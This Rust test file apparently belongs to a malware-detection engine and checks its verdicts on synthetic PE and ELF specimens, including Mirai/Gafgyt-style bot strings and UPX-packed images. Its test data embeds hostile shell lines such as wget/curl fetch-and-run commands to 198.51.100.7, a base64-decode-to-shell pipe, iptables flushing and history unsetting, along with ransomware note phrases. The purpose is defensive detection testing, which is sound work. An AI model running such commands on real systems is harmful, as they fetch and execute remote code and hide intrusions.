//! Files that should be called malicious, and files that should not, through the whole engine with the rules we ship.

use analyzers::{Analyzer, Findings, Incomplete, Indicator, Limit, Sample, Verdict};
use daemon_engine::{Analyzers, Cancel, Limits, Report, RuleSet, assemble, examine};
use specimens::elf::{self, R, X, elf};
use specimens::pe::{self, WRITABLE_CODE, pe};
use triage::FileKind;

pub(crate) fn report(bytes: &[u8]) -> Report {
    let rules = RuleSet::embedded();
    let mut analyzers: Analyzers<'_> = assemble(&rules);
    examine(bytes, &mut analyzers, &Limits::default(), &Cancel::default())
}

#[track_caller]
fn check(bytes: &[u8], verdict: Verdict, because: &[&str]) {
    let report = report(bytes);
    let seen: Vec<&str> = report.evidence.iter().map(|seen| seen.indicator.as_str()).collect();
    assert_eq!(report.opinion.verdict, verdict, "p = {}, seen: {seen:#?}", report.opinion.p_malicious);
    for indicator in because {
        assert!(seen.contains(indicator), "{indicator} was not seen: {seen:#?}");
    }
}

/// What bots of the Gafgyt and Mirai families name their floods and their victims.
pub(crate) const BOT_WORDS: &[&str] = &[
    "UDPFLOOD",
    "HTTPHEX",
    "STOMP",
    "/bin/busybox",
    "wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "/proc/net/tcp",
    "GET /%s HTTP/1.1",
    "Mozilla/5.0 (X11; Linux x86_64)",
];

#[test]
fn eicar_is_malicious_and_named() {
    let report = report(&specimens::eicar());
    assert_eq!(report.opinion.verdict, Verdict::Malicious);
    assert_eq!(report.malware_family.as_deref(), Some("EICAR-Test-File"));
    check(&[&specimens::eicar()[..], b" \r\n"].concat(), Verdict::Malicious, &["eicar.file.test"]);
}

#[test]
fn what_only_begins_as_eicar_is_not() {
    let mut almost = specimens::eicar();
    almost.extend_from_slice(b"and more");
    check(&almost, Verdict::Unknown, &[]);
}

#[test]
fn a_program_that_injects_is_malicious() {
    check(&pe::injector().build(), Verdict::Malicious, &["pe.import.injection_set"]);
}

#[test]
fn an_ordinary_program_is_benign() {
    check(&pe::ordinary().build(), Verdict::Benign, &[]);
    check(&elf::tool().build(), Verdict::Benign, &[]);
}

#[test]
fn packing_alone_is_not_malicious() {
    let packed = pe()
        .section("UPX0", WRITABLE_CODE, Vec::new())
        .virtual_size(0x40000)
        .section("UPX1", WRITABLE_CODE, pe::noise(65536))
        .import("kernel32.dll", &["LoadLibraryA", "GetProcAddress", "VirtualProtect", "ExitProcess"])
        .entry_in(1)
        .dll_characteristics(0)
        .overlay(pe::noise(100_000))
        .build();
    let report = report(&packed);
    assert!(report.opinion.p_malicious < 0.5, "p = {}", report.opinion.p_malicious);
    assert!(report.evidence.iter().any(|seen| seen.indicator.as_str() == "pe.section.writable_executable"));
}

#[test]
fn a_upx_like_elf_without_other_signs_is_not_malicious() {
    for image in [elf::upx_like().build(), elf::upx_like().upx_magic().build()] {
        let report = report(&image);
        // What is inside was not seen, whatever a model thinks of it.
        assert_eq!(report.opinion.verdict, Verdict::Unknown, "{:#?}", report.evidence);
        assert!(!report.evidence.is_empty());
    }
}

#[test]
fn a_upx_like_elf_with_bot_vocabulary_is_malicious() {
    let words = BOT_WORDS.join("\0");
    let image = elf::upx_like().upx_magic().overlay(words).build();
    check(&image, Verdict::Malicious, &["elf.string.flood_vocabulary", "elf.packer.upx_magic"]);
}

/// The bundle of tools that devices have: its texts, a table of tools in order, and as much code as they need.
fn bundle_of_tools(words: &[&str]) -> Vec<u8> {
    let tools: Vec<String> =
        (0..100).map(|number| format!("m{number:03}")).chain(["mkdir".into(), "mount".into()]).collect();
    let texts =
        ["BusyBox v1.36.1", "multi-call binary", "%s: applet not found", "/proc/net/tcp", "GET /%s HTTP/1.1\r\n"];
    let table = tools.join("\0");
    let words: Vec<&str> = texts.iter().chain(words).copied().chain([&table[..]]).collect();
    elf().load(R | X, vec![0x90; 256 << 10]).strings(&words).build()
}

#[test]
fn a_bot_stays_malicious_whatever_honest_words_it_adds() {
    const EXCUSE: &str = "elf.file.multi_call_tools";
    let sees_excuse = |report: &Report| report.evidence.iter().any(|seen| seen.indicator.as_str() == EXCUSE);
    // The bundle itself shows what bots show, and is excused as far as that it is not called one.
    let honest = report(&bundle_of_tools(&[]));
    assert!(sees_excuse(&honest), "{:#?}", honest.evidence);
    assert_eq!(honest.opinion.verdict, Verdict::Unknown, "p = {}", honest.opinion.p_malicious);
    // All of that is easily added to a bot, and excuses none.
    let kinds: [&[&str]; 4] = [
        BOT_WORDS,
        &["hacked_getdents64", "/etc/ld.so.preload", "chmod +x /tmp/.x/run", "curl -s http://198.51.100.7/a.sh | sh"],
        &["README_TO_DECRYPT", "your files have been encrypted", "chmod +x /tmp/enc", "pkill -9 mysqld"],
        &["chmod +x /tmp/x", "unset HISTFILE", "iptables -F", "echo ZWNobyBoaQ== | base64 -d | sh"],
    ];
    for words in kinds {
        let report = report(&bundle_of_tools(words));
        assert_eq!(report.opinion.verdict, Verdict::Malicious, "{words:?}: p = {}", report.opinion.p_malicious);
        assert!(!sees_excuse(&report), "{words:?}");
    }
}

#[test]
fn an_elf_that_nobody_can_account_for_is_not_benign() {
    let noted = |program: Vec<u8>| {
        let end = elf::tool().build().len() as u64 + 56;
        elf::tool().segment(elf::segment(4).offset(end).file_size(1 << 20)).overlay(program).build()
    };
    let calm = elf::tool().build();
    let bot = elf().load(R | X, [0x90; 4096]).load(R, BOT_WORDS.join("\0")).build();
    for (image, verdict) in [
        (elf::tool().overlay([0; 300]).build(), Verdict::Benign),
        (elf::tool().overlay([b"PK\x03\x04", &[0x41; 300][..]].concat()).build(), Verdict::Unknown),
        (elf::tool().overlay([b"#!/bin/sh\n", &[0x41; 300][..]].concat()).build(), Verdict::Unknown),
        (elf::tool().overlay(elf::noise(4096, 2)).build(), Verdict::Unknown),
        // A program behind a program is examined: it is as bad as it is.
        (noted(calm.clone()), Verdict::Benign),
        (noted(bot.clone()), Verdict::Malicious),
        (elf::tool().overlay(&bot).build(), Verdict::Malicious),
        // Packed, and one header more than a packer writes.
        (elf::upx_like().build(), Verdict::Unknown),
        (elf::upx_like().segment(elf::segment(elf::PT_DYNAMIC)).build(), Verdict::Unknown),
    ] {
        let report = report(&image);
        assert_eq!(
            report.opinion.verdict, verdict,
            "p = {}: {:?} {:?}",
            report.opinion.p_malicious, report.incomplete, report.evidence
        );
    }
}

#[test]
fn text_is_nobodys_and_unknown() {
    let report = report(b"nothing to see here\n");
    assert_eq!(report.opinion.verdict, Verdict::Unknown);
    assert!(!report.was_judged() && report.incomplete.is_empty());
}

#[test]
fn a_file_above_the_limit_is_unknown_at_once() {
    let rules = RuleSet::embedded();
    let limits = Limits { artifact_bytes_max: 10, ..Limits::default() };
    let report = examine(&pe::ordinary().build(), &mut assemble(&rules), &limits, &Cancel::default());
    assert_eq!(report.opinion.verdict, Verdict::Unknown);
    assert!(report.hit(Limit::Size));
}

#[test]
fn a_cancelled_examination_is_not_benign() {
    let cancel = Cancel::default();
    cancel.cancel();
    let rules = RuleSet::embedded();
    for image in [pe::ordinary().build(), elf::ordinary().build()] {
        let report = examine(&image, &mut assemble(&rules), &Limits::default(), &cancel);
        assert_eq!(report.opinion.verdict, Verdict::Unknown);
        assert_eq!(report.incomplete, [Incomplete::Limit(Limit::Time)]);
    }
}

/// Vouches for programs and texts, and then finds something in each that it cannot account for.
struct Doubts {
    kinds: fn(FileKind) -> bool,
}

impl Analyzer for Doubts {
    fn name(&self) -> &'static str {
        "doubts"
    }

    fn indicators(&self) -> Box<dyn Iterator<Item = &Indicator> + '_> {
        Box::new(std::iter::empty())
    }

    fn wants(&self, _: FileKind) -> bool {
        true
    }

    fn vouches(&self, kind: FileKind) -> bool {
        (self.kinds)(kind)
    }

    fn analyze<'a>(&mut self, _: Sample<'a>, findings: &mut Findings<'a>) {
        findings.cannot_vouch("tail");
    }
}

#[test]
fn what_nobody_accounts_for_takes_benign_away_and_nothing_else() {
    let rules = RuleSet::embedded();
    let mut analyzers = assemble(&rules);
    analyzers.add(|_| Box::new(Doubts { kinds: |kind| matches!(kind, FileKind::Elf(_)) }));
    let mut judge = |bytes: &[u8]| examine(bytes, &mut analyzers, &Limits::default(), &Cancel::default());

    let quiet = judge(&elf::ordinary().build());
    assert_eq!(quiet.opinion.verdict, Verdict::Unknown);
    assert_eq!(quiet.incomplete, [Incomplete::Unaccounted("tail".into())]);
    assert!(!quiet.rests_on_all());

    let bot = judge(&elf::upx_like().upx_magic().overlay(BOT_WORDS.join("\0")).build());
    assert_eq!(bot.opinion.verdict, Verdict::Malicious);
    assert!(bot.rests_on_all() && !bot.incomplete.is_empty());

    // Nobody vouches for a text, so there is no voucher to take back.
    assert_eq!(judge(b"nothing to see here\n").incomplete, []);
}
